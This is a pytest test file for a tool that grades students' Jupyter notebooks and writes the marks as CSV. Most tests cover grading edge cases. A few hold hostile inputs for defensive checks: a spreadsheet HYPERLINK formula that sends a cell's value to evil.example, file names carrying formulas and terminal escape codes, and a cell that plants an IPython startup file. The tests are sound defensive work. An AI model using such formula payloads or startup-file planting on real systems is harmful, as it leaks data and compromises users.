"""Marks: right work is marked right whatever an editor did to its file; no file ends the run."""

import csv
import io
import json
import os
import re
import sys
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from book.exercises.loop import MIXED
from kit import marks
from kit.marking import mark_of
from kit.student import student
from tests.formulas import FORMULAS, computes
from vmc_lib.show.figures import inline

EXERCISES = (
    "known",
    "plain",
    "moved",
    "bare",
    "twice",
    "text",
    "wrong",
    "unread",
    "forged",
    "none",
    "broken",
    "comma",
    "cut",
)


GRADE = "from book.exercises.loop import MIXED\n\ngrade(known, MIXED)"
[HINT, *_] = MIXED.mistakes


@pytest.fixture
def chapter():
    """A chapter of exercises: in each, its own variable has to become 2."""
    cells = [
        new_markdown_cell("# A chapter"),
        new_code_cell("from vmc_lib.show import check, grade"),
    ]
    for name in EXERCISES:
        cells += [
            new_markdown_cell("**Exercise**\n\nHow much is 1 + 1?", metadata={"exercise": name}),
            new_code_cell(f"{name} = None"),
            new_code_cell(GRADE if name == "known" else f"check({name}, 2)"),
        ]
    cells += [
        new_code_cell("solution(MIXED)", metadata={"tags": ["solution"]}),
        new_markdown_cell("**Exercise**\n\nWhy?", metadata={"exercise": "why"}),
        new_markdown_cell("Because.", metadata={"tags": ["solution"]}),
    ]
    cells.insert(5, cells.pop(-3))  # below the exercise that it solves
    return new_notebook(cells=cells)


@pytest.fixture
def hand_in(chapter):
    """What a student made of it, right in six of thirteen exercises."""
    notebook = student(chapter)
    checks = {
        cell.metadata.exercise: cell
        for cell in notebook.cells
        if cell.cell_type == "code" and "exercise" in cell.metadata
    }
    for cell in notebook.cells:
        if cell.source.endswith(" = None"):
            name = cell.source.split()[0]
            lines = {
                "known": "lambda *parts: [*MIXED.mistakes.values()][0](*parts)",
                "text": "'2.'",
                "unread": "'two'",
                "wrong": "3",
                "forged": "3",
                "none": "None",
                "broken": "unknown",
                "comma": "2,0",
            }
            cell.source = f"{name} = {lines.get(name, 2)}"
    checks["moved"].id = "another"
    checks["bare"].metadata = {}
    notebook.cells.append(new_code_cell("twice = 3"))
    notebook.cells.append(nbformat.from_dict(checks["twice"] | {"id": "copy"}))
    checks["forged"].source = "print('✓ Right.')"
    notebook.cells.remove(checks["cut"])
    return notebook


MARKS = {
    "known": f"a known mistake: {HINT}",
    "plain": "right",
    "moved": "right",
    "bare": "right",
    "twice": "right",
    "text": "right",
    "wrong": "not right",
    "unread": "not read",
    "forged": "not right",
    "none": "not answered",
    "broken": "NameError: name 'unknown' is not defined",
    "comma": "not read: write it with a point, not with a comma",
    "cut": "right",
    "why": "in words: for you to read",
}


def test_an_answer_is_marked_by_our_own_check(chapter, hand_in):
    assert marks.marks(chapter, hand_in) == MARKS


def test_the_books_own_notebook_is_marked_where_it_checks(chapter):
    notebook = nbformat.from_dict(chapter)
    answers = {"plain": "2", "wrong": "3", "known": "lambda *_: None"}
    for name, answer in answers.items():
        [cell] = [cell for cell in notebook.cells if cell.source == f"{name} = None"]
        cell.source = f"{name} = {answer}"
    expected = {"plain": "right", "wrong": "not right", "why": MARKS["why"]}
    unanswered = dict.fromkeys(EXERCISES, "not answered")
    assert marks.marks(chapter, notebook) == unanswered | expected


@pytest.fixture
def quick():
    """A chapter of two exercises and a hand-in; nothing is imported, so no cell takes a second."""
    cells = [new_markdown_cell("# Quick"), new_code_cell("", id="definition")]
    for name in ("first", "second"):
        cells += [
            new_markdown_cell("**Exercise**", metadata={"exercise": name}),
            new_code_cell(f"check({name!r}, 2)"),
        ]
    chapter = new_notebook(cells=cells)
    return chapter, student(chapter)


FOREVER = "from threading import Event\ndef check(name, expected):\n    if name == 'first': "


@pytest.mark.audit
def test_endless_check_is_interrupted_and_said(quick):
    chapter, notebook = quick
    notebook.cells[1].source = FOREVER + "Event().wait()"
    results = marks.marks(chapter, notebook, cell_limit=5)
    assert results == {"first": "ran longer than 5 s", "second": "not right"}


@pytest.mark.audit
def test_a_students_loop_in_the_chapters_own_cell_ends_with_that_cell(quick):
    chapter, _ = quick
    chapter.cells.insert(2, new_code_cell("law()", id="own"))
    notebook = student(chapter)
    notebook.cells[1].source = (
        FOREVER + "pass\n    raise ValueError(name)\ndef law(): Event().wait()"
    )
    results = marks.marks(chapter, notebook, cell_limit=2, limit=20)
    assert results == {"first": "ran longer than 2 s", "second": "ValueError: second"}


@pytest.mark.audit
def test_a_loop_above_a_check_is_said_at_that_check_alone(quick):
    chapter, notebook = quick
    notebook.cells[1].source = "def check(name, expected): answer"
    loop = new_code_cell("from threading import Event\nEvent().wait()\nanswer = 2")
    notebook.cells.insert(2, loop)
    results = marks.marks(chapter, notebook, cell_limit=5)
    unknown = "NameError: name 'answer' is not defined"
    assert results == {"first": "ran longer than 5 s", "second": unknown}


@pytest.mark.audit
def test_a_chapters_own_cell_may_take_its_time(quick):
    chapter, _ = quick
    chapter.cells[1].source = "import time\ntime.sleep(6)\ndef check(*_): pass"
    results = marks.marks(chapter, student(chapter), cell_limit=5)
    assert results == dict.fromkeys(("first", "second"), "not right")


def test_a_hand_in_runs_on_one_thread(quick, monkeypatch):
    monkeypatch.setenv("OMP_NUM_THREADS", "2")
    chapter, notebook = quick
    notebook.cells[1].source = """import os
def check(*_): raise ValueError(os.environ["OMP_NUM_THREADS"])"""
    results = marks.marks(chapter, notebook)
    assert results == dict.fromkeys(("first", "second"), "ValueError: 1")


UNDEFINED = "NameError: name 'arms' is not defined"


@pytest.mark.parametrize(
    ("lines", "mark"),
    [
        ("def arms(q)\n    return q", "SyntaxError: expected ':' (line 1)"),
        ("n = input('n?')\ndef arms(q): ...", "StdinNotImplementedError: "),
        ("arms_of_two = 1 / 0", UNDEFINED),
    ],
)
def test_a_missing_function_is_marked_by_what_went_wrong_in_its_cell(quick, lines, mark):
    chapter, notebook = quick
    notebook.cells[1].source = "def check(*_): arms"
    notebook.cells.insert(3, new_code_cell(lines))
    results = marks.marks(chapter, notebook)
    assert results["first"].startswith(mark)
    assert results["second"] == UNDEFINED


def test_what_a_hand_in_prints_is_not_kept(quick):
    """It may have no end: the marks of a class would end with the memory."""
    chapter, notebook = quick
    notebook.cells[1].source = "def check(*_): print('x' * 10**6)"
    kept = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(marks, "mark_of", lambda outputs, _: kept.extend(outputs) or "")
        marks.marks(chapter, notebook)
    assert kept == []


def test_of_what_a_hand_in_shows_little_is_kept(quick):
    """It may have no end, either, and be large."""
    chapter, notebook = quick
    notebook.cells[1].source = """def check(*_):
    for _ in range(1200):
        display({"text/plain": "x"}, raw=True)
    display({"text/plain": "x" * 10**6}, raw=True)"""
    kept = []
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(marks, "mark_of", lambda outputs, _: kept.extend(outputs) or "")
        marks.marks(chapter, notebook)
    assert len(kept) == 2 * marks.MOST_OUTPUTS
    assert {output["data"]["text/plain"] for output in kept} == {"x"}


def test_a_kernel_says_nothing_of_itself(quick, capfd):
    marks.marks(*quick)
    assert capfd.readouterr().err == ""


def test_no_hand_in_finds_what_another_left_in_ipythons_settings(quick):
    chapter, notebook = quick
    notebook.cells[1].source = """import os
from pathlib import Path
start = Path(os.environ["IPYTHONDIR"]) / "profile_default/startup/0.py"
found = start.exists() or "planted" in globals()
start.parent.mkdir(parents=True, exist_ok=True)
start.write_text("planted = 1")
def check(*_): raise ValueError(f"found: {found}")"""
    clean = dict.fromkeys(("first", "second"), "ValueError: found: False")
    assert [marks.marks(chapter, notebook) for _ in range(2)] == [clean] * 2


def test_a_cell_that_refuses_to_be_interrupted_ends_the_hand_in(quick):
    chapter, notebook = quick
    notebook.cells[1].source = (
        FOREVER + "\n        while True:\n            try: Event().wait()\n            except: pass"
    )
    with pytest.raises(TimeoutError, match="ran longer than 10 s"):
        marks.marks(chapter, notebook, cell_limit=2, limit=10)


@pytest.fixture
def book(chapter, tmp_path, monkeypatch):
    """The chapter as the seventh of a book."""
    nbformat.write(chapter, tmp_path / "07_chapter.ipynb")
    monkeypatch.setattr(marks, "CHAPTERS", [tmp_path / "07_chapter.ipynb"])


@pytest.fixture
def table(monkeypatch):
    """A function: the rows that `main` writes where text is ASCII, by the name of the file."""

    def table(*arguments):
        written = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
        with monkeypatch.context() as patch:
            patch.setattr(sys, "argv", ["kit.marks", *map(str, arguments)])
            patch.setattr(sys, "stdout", written)
            marks.main()
        text = written.buffer.getvalue().decode()
        assert text.startswith("\ufeff")  # or Excel takes it for something else than UTF-8
        rows = {}
        for row in csv.DictReader(io.StringIO(text[1:])):
            assert tuple(row) in (marks.COLUMNS, marks.BY_FILE)
            rows.setdefault(Path(row["file"]).name, []).append(row)
        return rows

    return table


@pytest.mark.usefixtures("book")
def test_every_file_gets_its_rows(hand_in, tmp_path, table):
    """Renamed, from Windows, without ids, metadata or kernel; without a heading; cut; of none."""
    folder = tmp_path / "handed in, ü&b#c"
    folder.mkdir()
    bare = json.loads(nbformat.writes(hand_in)) | {"nbformat_minor": 4}
    bare["metadata"] = {"kernelspec": {"name": "none", "display_name": "None", "language": "R"}}
    for cell in bare["cells"]:
        del cell["id"]
        cell["metadata"] = {}
    (folder / "a student.ipynb").write_text(json.dumps(bare), encoding="utf-8-sig")
    (folder / "cut.ipynb").write_text(json.dumps(bare)[:-300], encoding="utf-8")
    (folder / "empty.ipynb").touch()
    nbformat.write(new_notebook(cells=[new_code_cell("1 / 0")]), folder / "7 a student.ipynb")
    nbformat.write(new_notebook(), folder / "notes.ipynb")
    rows = table(folder)
    # What has lost its metadata and its source is known as no check
    bare_marks = MARKS | {"forged": f"not right{marks.GONE}"}
    *found, total = rows.pop("a student.ipynb")
    assert {row["exercise"]: row["mark"] for row in found} == bare_marks
    points = {row["exercise"]: row["points"] for row in found}
    assert (points["plain"], points["known"], points["wrong"], points["why"]) == (
        "2.0",
        "1.0",
        "0.0",
        "",
    )
    right = sum(mark == "right" for mark in bare_marks.values())
    assert float(total["points"]) == 2 * right + 1
    assert float(total["of"]) == 2 * len(EXERCISES)
    *unmarked, total = rows.pop("7 a student.ipynb")
    undefined = f"NameError: name 'check' is not defined{marks.GONE}"
    found = {row["mark"] for row in unmarked}
    assert found >= {undefined, MARKS["why"]}
    assert all(mark.endswith(marks.GONE) for mark in found - {MARKS["why"]})
    assert float(total["points"]) == 0
    assert rows.keys() == {"cut.ipynb", "empty.ipynb", "notes.ipynb"}
    assert all(row["mark"].startswith("cannot be marked (") for [row] in rows.values())
    assert "no chapter has its first heading" in rows["notes.ipynb"][0]["mark"]
    (tmp_path / "none").mkdir()
    with pytest.raises(SystemExit, match=r"no notebooks under .* FOLDER"):
        table(tmp_path / "none")
    assert table(folder / "empty.ipynb").keys() == {"empty.ipynb"}


@pytest.mark.usefixtures("book")
def test_what_has_a_notebooks_name_but_is_none_is_said(tmp_path, table, capsys):
    """A list, also asked twice, a label that is none, a dead link: a row each; a folder: a line."""
    folder = tmp_path / "in"
    (folder / "folder.ipynb").mkdir(parents=True)
    (folder / "list.ipynb").write_text("[]", encoding="utf-8")
    (folder / "link.ipynb").symlink_to(tmp_path / "nowhere.ipynb")
    for name, label in (("label", ["first"]), ("number", 7)):
        cell = new_code_cell("1", metadata={"exercise": label})
        nbformat.write(new_notebook(cells=[cell]), folder / f"{name}.ipynb")
    rows = {name: row["mark"] for name, [row] in table(folder, folder / "list.ipynb").items()}
    assert rows["list.ipynb"] == "cannot be marked (ValueError: it holds no notebook)"
    assert "No such file" in rows["link.ipynb"]
    assert "no chapter has its first heading" in rows["label.ipynb"]
    assert "no chapter has its first heading" in rows["number.ipynb"]
    assert rows.keys() == {f"{name}.ipynb" for name in ("list", "link", "label", "number")}
    assert "it is no notebook: " + str(folder / "folder.ipynb") in capsys.readouterr().err


def test_a_folder_that_is_not_there_is_named(tmp_path, table):
    with pytest.raises(SystemExit, match=r"there is no folder .*nowhere"):
        table(tmp_path / "nowhere")


def test_no_job_is_no_answer(tmp_path, table, capsys):
    with pytest.raises(SystemExit):
        table(tmp_path, "--jobs", 0)
    assert "--jobs: give 1 or more" in capsys.readouterr().err


def test_a_known_mistake_is_said_without_marks():
    hint = r"You took $\tau_{act}$ *alone*: $u \ge \mathbf a$."
    mark = mark_of([{"data": {"text/html": inline(hint)}}], [hint])
    assert mark == "a known mistake: You took tau_act alone: u ≥ a."


@pytest.fixture
def folder(book, hand_in, tmp_path):
    """A folder of hand-ins that lie side by side, as Moodle's download has them; in it, one."""
    folder = tmp_path / "handed in"
    folder.mkdir()
    nbformat.write(hand_in, folder / "right.ipynb")
    return folder


def test_a_file_beside_a_hand_in_changes_no_mark_and_is_named(folder, table, capsys):
    others = {folder / f"{name}.py" for name in ("numpy", "vmc_lib", "json")}
    for other in others:
        other.write_text("raise ImportError('a student's')", encoding="utf-8")
    writing = new_notebook(cells=[new_code_cell("open('numpy.py', 'w').write('no')")])
    nbformat.write(writing, folder / "7 FIRST.IPYNB")
    rows = table(folder)
    assert rows.keys() == {"right.ipynb", "7 FIRST.IPYNB"}
    *found, _total = rows["right.ipynb"]
    assert {row["exercise"]: row["mark"] for row in found} == MARKS
    named = re.findall("it is no notebook: (.*)", capsys.readouterr().err)
    assert {*map(Path, named)} == others


def test_a_student_is_one_row_on_request(folder, table):
    (folder / "cut.ipynb").touch()
    rows = table(folder, "--by", "file")
    [row], [cut] = rows["right.ipynb"], rows["cut.ipynb"]
    right = sum(mark == "right" for mark in MARKS.values())
    assert (float(row["points"]), float(row["of"])) == (2 * right + 1, 2 * len(EXERCISES))
    assert row["for you to read"] == "why"
    wrong = [part.split(": ")[0] for part in row["not right"].split("; ")]
    assert [*wrong] == [name for name, mark in MARKS.items() if mark != "right"][:-1]
    assert cut["not right"].startswith("cannot be marked (")


@pytest.mark.audit
def test_several_run_at_once(tmp_path, table):
    for name in ("7 a.ipynb", "7 b.ipynb"):
        nbformat.write(new_notebook(cells=[new_code_cell("1 / 0")]), tmp_path / name)
    one, other = table(tmp_path, "--jobs", 2).values()
    assert [row["mark"] for row in one] == [row["mark"] for row in other]
    assert one[0]["mark"].endswith(marks.GONE)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_the_table_is_a_formula(formula):
    assert computes(formula)
    assert not computes(marks.plain(formula))


def test_a_students_error_is_text(folder, hand_in, table):
    trap = """class Trap:
    def __float__(self):
        raise type('=HYPERLINK("http://evil.example/?"&A1,"see here")', (Exception,), {})("\\x1b")
broken = Trap()"""
    for cell in hand_in.cells:
        if cell.source == "broken = unknown":
            cell.source = trap
    nbformat.write(hand_in, folder / "right.ipynb")
    marks = {row["exercise"]: row["mark"] for row in table(folder)["right.ipynb"]}
    assert marks["broken"].startswith("'=HYPERLINK(")
    assert marks["broken"].endswith(r"\x1b")


@pytest.mark.usefixtures("book")
def test_whatever_its_name_a_file_gets_its_row(tmp_path, table, monkeypatch):
    names = [b"=1+1", b"M\xfcller", "Müller 张".encode(), b"two\nlines", b"esc\x1b[2J", 245 * b"x"]
    names = {os.fsdecode(name) for name in names}
    (tmp_path / "in").mkdir()
    monkeypatch.chdir(tmp_path / "in")
    for name in names:
        Path(f"{name}.ipynb").touch()
    rows = table(".")
    assert rows.keys() == {marks.plain(f"{name}.ipynb") for name in names}
    assert all(row["mark"].startswith("cannot be marked (") for [row] in rows.values())
